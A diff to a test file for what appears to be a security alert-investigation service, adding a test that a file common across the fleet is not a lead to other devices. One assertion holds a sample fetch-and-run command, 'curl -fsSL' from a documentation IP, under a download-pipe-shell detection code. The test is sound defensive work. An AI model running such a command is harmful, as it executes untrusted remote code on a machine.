@@ -223,7 +223,11 @@ def test_device_alert_rebuilds_the_process_tree_and_finds_other_devices(
     assert "process.download_pipe_shell" in {r["code"] for r in judged["reasons"]}
     names = {i["name"] for i in body["evidence"] if i["kind"] == "process"}
     assert {"-bash", "curl -fsSL http://198.51.100.7/x.sh"} <= names
-    assert evidence["file:" + SHA]["properties"]["prevalence"] == {"devices": 2, "fleetDevices": 2}
+    assert evidence["file:" + SHA]["properties"]["prevalence"] == {
+        "devices": 2,
+        "fleetDevices": 2,
+        "common": False,
+    }
     assert "device:dev-2" in evidence
     edges = {(e["source"], e["target"]) for e in body["graph"]["edges"]}
     assert ("file:" + SHA, "device:dev-2") in edges
@@ -307,3 +311,29 @@ def test_user_compromise_reads_sign_ins_and_sent_mail(api: ApiClient, container:
     assert sent_cluster["properties"]["emailCount"] == 3
     actions = {a["actionType"] for a in body["actions"]}
     assert {"resetPassword", "confirmUserCompromised"} <= actions
+
+
+def test_a_file_common_across_the_fleet_is_not_a_lead_to_other_devices(
+    api: ApiClient, container: Container
+) -> None:
+    common = "cd" * 32
+    _post(
+        api,
+        "endpointEvents",
+        [T.endpoint_process(f"dev-{i}", 40, 1, "bash", sha256=common) for i in range(25)],
+    )
+    _ingest_alert(
+        api,
+        A.alert(
+            title="Suspicious shell",
+            evidence=[A.device("dev-0", "dev-0.fabrikam.example"), A.file(common, "bash")],
+        ),
+    )
+    body = _investigate(api, container)
+    evidence = {item["key"]: item for item in body["evidence"]}
+    assert evidence["file:" + common]["properties"]["prevalence"] == {
+        "devices": 25,
+        "fleetDevices": 25,
+        "common": True,
+    }
+    assert [i["key"] for i in body["evidence"] if i["kind"] == "device"] == ["device:dev-0"]
